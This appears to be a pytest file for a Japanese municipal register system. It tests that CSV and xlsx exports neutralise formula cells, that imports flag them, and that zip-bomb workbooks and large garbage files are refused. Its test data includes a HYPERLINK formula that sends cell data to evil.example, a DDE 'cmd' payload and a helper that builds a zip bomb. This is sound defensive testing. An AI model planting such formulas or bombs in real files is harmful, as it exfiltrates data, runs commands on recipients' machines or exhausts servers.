"""Imports and exports of hostile cells: formulas come back neutralised, imports flag them, and a
file of garbage or a zip bomb costs seconds and megabytes, never minutes and gigabytes."""

from __future__ import annotations

import csv
import io
import time
import zipfile
from pathlib import Path

import api_fixtures as fx
import openpyxl
import pytest
from test_import_support import REGISTER_HEADER, register_row, run_register, tiny_store, write_csv, write_xlsx

from karte.domain.access import Access, Level
from karte.domain.errors import InputError
from karte.importing import tables
from karte.importing.api import ImportValidationError
from karte.importing.rows import MAX_LISTED, looks_like_formula
from karte.render.csvfile import csv_bytes, safe_cell, xlsx_bytes

FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"詳細")', "=1+2", "+cmd|' /C calc'!A0", "@SUM(1+1)",
            "-2+3", "\t=1+2", "\r=1+2"]
STAFF = Access("staff", Level.CITY_STAFF, route="test")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_cell_is_neutralised(text):
    assert safe_cell(text) == "'" + text
    assert looks_like_formula(text.lstrip(" "))


@pytest.mark.parametrize("value", ["-3", "+81", "-1.5", "1e3", "山田 太郎", "", 7, -2, 1.5, None, True])
def test_numbers_and_plain_text_are_left_alone(value):
    shown = safe_cell(value)
    assert shown == ("" if value is None else "true" if value is True else value)
    if isinstance(value, str):
        assert not looks_like_formula(value)


def test_csv_and_xlsx_writers_never_emit_a_formula():
    rows = [[f, 1] for f in FORMULAS]
    text = csv_bytes(["名前", "数"], rows).decode("utf-8-sig")
    cells = [r[0] for r in csv.reader(io.StringIO(text))][1:]
    assert all(c.startswith("'") for c in cells), cells
    book = openpyxl.load_workbook(io.BytesIO(xlsx_bytes({"表": (["名前", "数"], rows)})))
    values = [c.value for c in book.active["A"]][1:]
    assert all(v.startswith("'") for v in values) and {c.data_type for c in book.active["A"]} == {"s"}
    with zipfile.ZipFile(io.BytesIO(xlsx_bytes({"表": (["a"], rows)}))) as z:
        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()


@pytest.mark.slow
def test_a_formula_name_comes_back_neutralised_in_the_csv_downloads(demo, tmp_path):
    """Issue 16: names such as =HYPERLINK(...) imported and came back unchanged in the CSV tables."""
    store = fx.copy_demo(demo, tmp_path / "store")
    web = fx.make_api(store, tmp_path)
    person = store.read("register", district=fx.OWN).iloc[0]["person_id"]
    row = store.read_row("register", person, access=STAFF)
    store.update_row("register", person, {"name": FORMULAS[0], "kana": FORMULAS[2]}, version=row["version"],
                     access=STAFF)
    coop = store.read("cooperators", district=fx.OWN).iloc[0]["cooperator_id"]
    row = store.read_row("cooperators", coop, access=STAFF)
    store.update_row("cooperators", coop, {"name": "@SUM(1+1)", "phone": "=1+2"}, version=row["version"],
                     access=STAFF)
    staff = web.client("staff")
    for table, expected in (("register", {f"'{FORMULAS[0]}", f"'{FORMULAS[2]}"}),
                            ("cooperators", {"'@SUM(1+1)", "'=1+2"})):
        r = staff.get(f"/api/districts/{fx.OWN}/tables/{table}.csv")
        assert r.status_code == 200
        cells = {c for line in csv.reader(io.StringIO(r.content.decode("utf-8-sig"))) for c in line}
        assert expected <= cells, (table, expected - cells)
        assert not [c for c in cells if c[:1] in ("=", "+", "@") and not c.lstrip("+-").isdigit()]


def test_imports_flag_formula_cells_with_file_row_and_column(tmp_path):
    store = tiny_store(tmp_path)
    rows = [REGISTER_HEADER, register_row("P001", name="=1+2"), register_row("P002"),
            register_row("P003", kana="@SUM(1+1)", name='=HYPERLINK("http://x","y")')]
    report = run_register(store, write_csv(tmp_path / "f.csv", rows), dry_run=True)
    found = {(w.file, w.row, w.column) for w in report.warnings if "数式" in w.message_ja}
    assert found == {("f.csv", 2, "氏名"), ("f.csv", 4, "氏名"), ("f.csv", 4, "フリガナ")}
    assert "数式" in report.format()


def test_listing_stops_after_1000_problems_and_says_how_many_more(tmp_path):
    store = tiny_store(tmp_path)
    rows = [REGISTER_HEADER] + [register_row(f"P{i:05d}", birth="not a date", care="???")
                                for i in range(1, 1501)]
    path = write_csv(tmp_path / "bad.csv", rows)
    with pytest.raises(ImportValidationError) as info:
        run_register(store, path, dry_run=True)
    problems = info.value.report.problems
    assert len(problems) == MAX_LISTED + 1
    last = problems[-1].format()
    assert "ほか 2,000 件" in last and "最初の 1,000 件" in last, last
    text = info.value.report.format()
    assert text.count("\n") < 1100 and "ほか 2,000 件" in text


@pytest.mark.slow
def test_five_megabytes_of_garbage_take_seconds_and_few_lines(tmp_path):
    """Issue 16: 5.8 MB of garbage gave 1,393,010 error lines (160 MB, 17 s)."""
    import random
    import string

    rnd = random.Random(16)
    width = len(REGISTER_HEADER)
    lines = [",".join(REGISTER_HEADER)]
    while sum(len(x) for x in lines) < 5_800_000:
        lines.append(",".join("".join(rnd.choice(string.ascii_letters + "=+@-") for _ in range(9))
                              for _ in range(width)))
    path = tmp_path / "garbage.csv"
    path.write_text("\n".join(lines), encoding="utf-8")
    store = tiny_store(tmp_path)
    t0 = time.process_time()
    with pytest.raises(ImportValidationError) as info:
        run_register(store, path, dry_run=True)
    seconds = time.process_time() - t0
    text = info.value.report.format()
    print(f"{path.stat().st_size / 1e6:.1f} MB of garbage: {seconds:.1f} s of CPU, "
          f"{text.count(chr(10)) + 1} lines, {len(text.encode()) / 1e3:.0f} kB of report")
    assert text.count("\n") < 2 * MAX_LISTED + 20 and len(text.encode()) < 600_000
    assert seconds < 30


def _bomb(path: Path, unpacked: int) -> Path:
    """A valid workbook whose sheet is padded with ``unpacked`` bytes of spaces (packs ~1000:1)."""
    write_xlsx(path, [REGISTER_HEADER, register_row("P001")])
    with zipfile.ZipFile(path) as z:
        parts = {n: z.read(n) for n in z.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    xml = parts[sheet].decode()
    parts[sheet] = xml.replace("<sheetData>", "<sheetData>" + " " * unpacked, 1).encode()
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            z.writestr(name, data)
    return path


def test_a_zip_bomb_workbook_is_refused_before_it_is_unpacked(tmp_path):
    """Issue 16: a 4.8 MB xlsx holding 1 GB of XML took 88 s and 1.77 GB in a dry run."""
    import resource

    path = _bomb(tmp_path / "bomb.xlsx", 60_000_000)
    assert path.stat().st_size < 1_000_000
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    t0 = time.perf_counter()
    with pytest.raises(InputError, match="異常に大きく"):
        tables.read_table(path)
    assert time.perf_counter() - t0 < 2
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000  # kB: nothing unpacked


def test_the_unpacked_size_of_a_workbook_is_capped(tmp_path, monkeypatch):
    path = write_xlsx(tmp_path / "ok.xlsx", [REGISTER_HEADER, register_row("P001")])
    assert tables.read_table(path).rows
    monkeypatch.setattr(tables, "MAX_XLSX_UNPACKED", 2_000)
    with pytest.raises(InputError, match="展開すると大きすぎる"):
        tables.read_table(path)


def test_cell_length_columns_and_rows_are_capped(tmp_path, monkeypatch):
    long_name = register_row("P001", name="長" * (tables.MAX_CELL + 1))
    with pytest.raises(InputError, match=r"2行目 2列目: セルの文字数が多すぎます"):
        tables.read_table(write_csv(tmp_path / "long.csv", [REGISTER_HEADER, long_name]))
    wide = [REGISTER_HEADER, register_row("P001") + ["x"] * tables.MAX_COLUMNS]
    with pytest.raises(InputError, match="列が多すぎます"):
        tables.read_table(write_csv(tmp_path / "wide.csv", wide))
    with pytest.raises(InputError, match="列が多すぎます"):
        tables.read_table(write_xlsx(tmp_path / "wide.xlsx", wide))
    monkeypatch.setattr(tables, "MAX_ROWS", 3)
    many = [REGISTER_HEADER] + [register_row(f"P{i:03d}") for i in range(5)]
    with pytest.raises(InputError, match="行数が多すぎます"):
        tables.read_table(write_csv(tmp_path / "many.csv", many))
    monkeypatch.setattr(tables, "MAX_FILE_BYTES", 100)
    with pytest.raises(InputError, match="ファイルが大きすぎます"):
        tables.read_table(write_csv(tmp_path / "big.csv", many[:3]))
